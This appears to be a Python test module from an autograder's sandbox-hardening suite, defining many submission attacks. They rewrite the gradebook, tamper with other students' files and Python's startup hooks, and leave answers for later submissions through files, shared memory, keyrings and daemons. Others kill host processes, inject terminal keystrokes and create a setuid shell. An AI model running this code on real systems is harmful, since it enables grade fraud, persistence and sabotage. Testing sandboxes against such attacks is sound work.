"""Writing: the gradebook, the parent, other kernels, and whatever the next submission will use.

An accomplice who has solved everything leaves the answers behind; the next one comes to fetch them.
"""

from .attack import Attack

FAMILY = ("改写与留下痕迹", "Writing and leaving behind")

# All six answers, as one module: what an accomplice leaves behind.
ANSWERS = '''
ANSWERS = """
import torch

def vjp(f, x, v):
    x = x.detach().requires_grad_()
    y = f(x)
    if v.shape != y.shape:
        raise ValueError
    g = torch.zeros_like(x)
    if y.requires_grad:
        (g,) = torch.autograd.grad(y, x, v, materialize_grads=True)
    return y.detach(), g
"""
'''
TAKE = '''
def take(text):
    """Use what an accomplice has left."""
    if text and "def vjp" in text:
        print(@WON@)
        exec(text, globals())
'''


def _pair(name: str, zh: str, en: str, leave: str, fetch: str) -> list[Attack]:
    """An accomplice who leaves the answers in a place, and the one who looks there."""
    return [
        Attack(
            f"leave-{name}", f"{zh}：留下答案", f"{en}: leaves the answers",
            ANSWERS + "import os, sys\n" + leave,
        ),
        Attack(
            f"take-{name}", f"{zh}：取走答案", f"{en}: fetches them",
            "import os, sys\n" + TAKE + fetch, answers={"vjp": "pass"}, rest="stub",
        ),
    ]  # fmt: skip


PLACES = '''
places = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/", "/mnt", "..", "../..",
          os.path.expanduser("~"), os.environ.get("IPYTHONDIR", "/tmp"),
          os.environ.get("MPLCONFIGDIR", "/tmp"), os.environ.get("TMPDIR", "/tmp"),
          os.environ.get("XDG_RUNTIME_DIR", "/tmp"), os.environ.get("XDG_CACHE_HOME", "/tmp"),
          "/scratch", "/scratch/home", "/scratch/submission"]
'''

ATTACKS = [
    Attack(
        "write-the-gradebook", "给每个人的成绩册记 99 分",
        "writes 99 for everybody into the gradebook",
        '''
import glob, sqlite3
for path in [@COURSE@ + "/gradebook.db", *glob.glob("../../../*.db")]:
    try:
        with sqlite3.connect(path, timeout=2) as book:
            book.execute("update grade set manual_score = 99, auto_score = 99")
        print(@WON@)
    except Exception as error:
        print(type(error).__name__)
''', rest="stub",
    ),
    Attack(
        "write-the-course", "改写 source/、release/、日志与别人的提交",
        "writes to source/, release/, the journal and others' submissions",
        '''
import glob, os
for pattern in ("source/*/*.ipynb", "release/*/*.ipynb", "submitted/*/*/*.ipynb", "*.py", "*.jsonl",
                ".*", "autograded/*/*/*.ipynb"):
    for path in glob.glob(@COURSE@ + "/" + pattern):
        try:
            with open(path, "a") as file:
                file.write("stolen")
            print(@WON@)
        except OSError as error:
            print(type(error).__name__)
for name in ("new.db", "journal.jsonl", "submitted/somebody/03-vjp/03-vjp.ipynb"):
    try:
        os.makedirs(os.path.dirname(@COURSE@ + "/" + name), exist_ok=True)
        open(@COURSE@ + "/" + name, "w").write("stolen")
    except OSError as error:
        print(type(error).__name__)
''', rest="stub",
    ),
    Attack(
        "write-the-installation", "改写 tutor、site-packages、sitecustomize、.pth 与标准库",
        "writes to tutor, site-packages, sitecustomize, .pth files and the standard library",
        '''
import json, os, site, sys, torch, tutor, IPython
text = "import torch; torch.autograd.grad = None\\n"
folders = {os.path.dirname(m.__file__) for m in (json, os, torch, tutor, IPython)}
folders |= {*site.getsitepackages(), sys.prefix, @ROOT@, @ROOT@ + "/tutor", @ROOT@ + "/grading"}
for folder in sorted(folders):
    for name in ("sitecustomize.py", "usercustomize.py", "stolen.pth", "__init__.py", "check.py"):
        try:
            with open(os.path.join(folder, name), "a") as file:
                print(@WON@)
                file.write("# " + @MARK@ + "\\n")
        except OSError as error:
            pass
try:
    os.chmod(tutor.__file__, 0o666)
    os.utime(tutor.__file__)
    print(@WON@)
except OSError as error:
    print(type(error).__name__)
''', rest="stub",
    ),
    *_pair(
        "a-file", "每个能写的地方", "every place that can be written to",
        PLACES + '''
for place in places:
    try:
        with open(os.path.join(place, "answers-of-a-friend.py"), "w") as file:
            file.write(ANSWERS)
        with open(os.path.join(place, @MARK@), "w") as file:
            file.write("left")
    except OSError as error:
        print(type(error).__name__)
''',
        PLACES + '''
for place in places:
    try:
        take(open(os.path.join(place, "answers-of-a-friend.py")).read())
    except OSError as error:
        print(type(error).__name__)
''',
    ),
    *_pair(
        "startup-files", "IPython 的启动文件、matplotlibrc、用户的 site-packages",
        "IPython's startup files, matplotlibrc, the user's site-packages",
        '''
import site
code = "import builtins; builtins.FRIEND = " + repr(ANSWERS)
home, ipython = os.path.expanduser("~"), os.environ.get("IPYTHONDIR", "")
for path in (ipython + "/profile_default/startup/00.py", home + "/.pythonrc", home + "/.profile",
             site.getusersitepackages() + "/usercustomize.py",
             site.getusersitepackages() + "/friend.pth",
             home + "/.config/matplotlib/matplotlibrc", home + "/.jupyter/jupyter_config.py",
             home + "/.local/share/jupyter/kernels/python3/kernel.json"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(code)
    except OSError as error:
        print(type(error).__name__)
''',
        'import builtins\ntake(getattr(builtins, "FRIEND", ""))\n',
    ),
    *_pair(
        "shared-memory", "System V 共享内存、POSIX 共享内存与消息队列",
        "System V shared memory, POSIX shared memory and message queues",
        '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
text = ANSWERS.encode()
segment = libc.shmget(0x41545443, 65536, 0o1666)
if segment >= 0:
    ctypes.memmove(libc.shmat(segment, None, 0), text, len(text))
libc.semget(0x41545443, 1, 0o1666)
queue = libc.msgget(0x41545443, 0o1666)
buffer = ctypes.create_string_buffer((1).to_bytes(8, "little") + text)
libc.msgsnd(queue, buffer, len(text), 0o4000)
librt = ctypes.CDLL(None)
found = librt.mq_open(b"/friend", os.O_CREAT | os.O_RDWR | os.O_NONBLOCK, 0o666, None)
librt.mq_send(found, text[:8000], min(len(text), 8000), 1)
print(segment, queue, found)
''',
        '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x41545443, 0, 0)
if segment >= 0:
    take(ctypes.string_at(libc.shmat(segment, None, 0)).decode())
queue = libc.msgget(0x41545443, 0)
buffer = ctypes.create_string_buffer(65536)
if libc.msgrcv(queue, buffer, 65000, 0, 0o4000) > 0:
    take(buffer.raw[8:].split(b"\\0")[0].decode())
found = libc.mq_open(b"/friend", os.O_RDONLY | os.O_NONBLOCK)
if found >= 0 and libc.mq_receive(found, buffer, 65536, None) > 0:
    take(buffer.value.decode())
print(segment, queue, found)
''',
    ),
    *_pair(
        "a-keyring", "内核的密钥环", "the kernel's keyrings",
        '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
text = ANSWERS.encode()
for ring in (-2, -3, -4, -5):
    added = libc.syscall(248, b"user", b"friend", text, len(text), ring)
    libc.syscall(250, 5, added, 0x3f3f3f3f)
print("added")
''',
        '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(65536)
for ring in (-2, -3, -4, -5):
    found = libc.syscall(250, 10, ring, b"user", b"friend", 0)
    if found > 0 and libc.syscall(250, 11, found, buffer, 65536) > 0:
        take(buffer.value.decode())
''',
    ),
    *_pair(
        "a-daemon", "双重 fork 的守护进程与抽象套接字",
        "a daemon of a double fork, on an abstract socket",
        '''
import signal, socket, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        server = socket.socket(socket.AF_UNIX)
        server.bind("\\0answers-of-a-friend")
        server.listen()
        code = ("import os, socket, time\\nserver = socket.socket(fileno=%d)\\n"
                "server.settimeout(300)\\nfor _ in range(9):\\n    link, _ = server.accept()\\n"
                "    link.sendall(%r.encode())\\n    link.close()\\n") % (server.fileno(), ANSWERS)
        os.set_inheritable(server.fileno(), True)
        os.execv(sys.executable, [sys.executable, "-c", code, @MARK@])
    os._exit(0)
os.wait()
''',
        '''
import socket
link = socket.socket(socket.AF_UNIX)
link.settimeout(1)
try:
    link.connect("\\0answers-of-a-friend")
    take(link.recv(65536).decode())
except OSError as error:
    print(type(error).__name__)
''',
    ),
    *_pair(
        "a-thread", "atexit、线程与不退出的子进程", "atexit hooks, threads and children that stay",
        '''
import atexit, subprocess, threading, time
code = "import time; time.sleep(300)"
def again():
    subprocess.Popen([sys.executable, "-c", code, @MARK@], start_new_session=True)
atexit.register(again)
again()
threading.Thread(target=lambda: [time.sleep(1) for _ in range(300)], daemon=False).start()
os.register_at_fork(after_in_child=again)
''',
        '''
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    if b"time.sleep(300)" in open(path, "rb").read():
        print(@WON@)
''',
    ),
    *_pair(
        "a-name", "主机名、进程号、时区等命名空间的状态",
        "the host's name, process numbers and other state of the namespaces",
        '''
import ctypes, resource
libc = ctypes.CDLL(None, use_errno=True)
print(libc.sethostname(b"friend", 6))
for path in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname",
             "/proc/sys/kernel/ns_last_pid", "/proc/sys/kernel/shmmax",
             "/proc/1/oom_score_adj", "/proc/1/comm", "/proc/1/coredump_filter",
             "/proc/sys/kernel/pid_max", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
             "/proc/1/setgroups", "/proc/1/timerslack_ns"):
    try:
        with open(path, "w") as file:
            file.write("4242")
    except OSError as error:
        print(type(error).__name__)
try:
    resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3))
    print(@WON@)
except OSError as error:
    print(type(error).__name__)
os.setpriority(os.PRIO_PROCESS, 0, 19)
''',
        '''
import socket
names = [socket.gethostname()]
for path in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/domainname",
             "/proc/sys/kernel/shmmax", "/proc/1/comm", "/proc/1/oom_score_adj",
             "/proc/sys/kernel/pid_max"):
    try:
        names.append(open(path).read().strip())
    except OSError as error:
        print(type(error).__name__)
if "friend" in names or "4242" in names:
    print(@WON@)
''',
    ),
    Attack(
        "kill-the-parent", "向 1 号进程、父进程、进程组和所有进程发信号",
        "signals to process 1, the parent, the group and everybody",
        answers={"vjp": '''
import os, signal
def vjp(f, x, v):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGSEGV, signal.SIGABRT, signal.SIGTERM,
                   signal.SIGUSR1, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD, signal.SIGCONT):
        for pid in {1, os.getppid()} - {os.getpid()}:
            try:
                os.kill(pid, number)
            except OSError:
                pass
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.killpg(0, signal.SIGTERM)
    try:
        os.kill(-1, signal.SIGKILL)
    finally:
        os.kill(os.getpid(), signal.SIGKILL)
'''},
        state="out_of_memory",
    ),
    Attack(
        "kill-everybody-alive", "杀死其他一切进程，自己活下来",
        "kills every other process and lives on",
        '''
import os, signal
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), number)
            except OSError:
                pass
''',
    ),
    Attack(
        "write-to-descriptors", "向继承来的每个文件描述符写垃圾",
        "writes rubbish to every descriptor",
        answers={"vjp": '''
import os
def vjp(f, x, v):
    for number in range(0, 256):
        try:
            os.set_blocking(number, False)
            os.write(number, b"{}\\n" * 1000 + b"\\xff" * 1000)
        except OSError:
            pass
    raise ValueError
'''},
        state="over_limit",
    ),
    Attack(
        "forge-requests-to-the-parent", "冒充批改程序，要求父进程再 fork 一个内核",
        "poses as the grader and asks the parent for another kernel",
        '''
import glob, json, os, socket
found = set()
try:
    with open("/proc/net/unix") as table:
        found = {line.split()[7] for line in table if len(line.split()) > 7}
except OSError:
    pass
found |= set(glob.glob("/tmp/**/*", recursive=True)) | set(glob.glob("/run/**/*", recursive=True))
for name in sorted(found):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as link:
            link.settimeout(0.2)
            try:
                link.connect("\\0" + name[1:] if name.startswith("@") else name)
                link.send(b'{"argv": [], "env": {}, "cwd": "/", "signal": 9}\\n' + b"\\xff" * 4096)
                print("connected", link.recv(1000)[:50])
            except OSError as error:
                pass
for number in range(3, 128):
    try:
        with socket.socket(fileno=os.dup(number)) as link:
            if link.family == socket.AF_UNIX and link.getsockopt(socket.SOL_SOCKET,
                                                                  socket.SO_ACCEPTCONN):
                print("listening")
                link.setblocking(False)
                link.accept()
                print(@WON@)
    except OSError:
        pass
''',
    ),
    Attack(
        "the-terminal", "向批改者的终端写字、注入按键",
        "writes and types into the grader's terminal",
        '''
import fcntl, glob, os, termios
for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), "/dev/stdin"]:
    try:
        number = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        for letter in b"id\\n":
            fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
        print(@WON@)
    except OSError as error:
        print(type(error).__name__)
os.system("echo stolen > /dev/tty")
''', rest="stub",
    ),
    Attack(
        "raise-its-limits", "提高自己的资源限额", "raises its own limits",
        '''
import resource
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_NOFILE"):
    limit = getattr(resource, name)
    try:
        _, hard = resource.getrlimit(limit)
        if hard == resource.RLIM_INFINITY:
            print(name, "none")
            continue
        resource.setrlimit(limit, (hard * 4 + 4, hard * 4 + 4))
        print(@WON@)
    except (ValueError, OSError) as error:
        print(name, type(error).__name__)
''',
    ),
    Attack(
        "make-devices", "建立设备文件、FIFO 和 setuid 程序",
        "makes device files, pipes and a set-uid program",
        '''
import os, shutil, stat
for number, (major, minor) in enumerate(((1, 1), (254, 0), (8, 0))):
    try:
        os.mknod(f"device{number}", 0o666 | stat.S_IFBLK, os.makedev(major, minor))
        open(f"device{number}", "rb").read(10)
        print(@WON@)
    except OSError as error:
        print(type(error).__name__)
os.mkfifo("pipe")
shutil.copy("/bin/sh", "sh")
os.chmod("sh", 0o4755)
os.symlink("/", "root")
os.symlink("loop", "loop")
os.mkdir("closed", 0)
folder = "."
for _ in range(300):
    folder += "/d"
    os.mkdir(folder)
''',
    ),
]  # fmt: skip
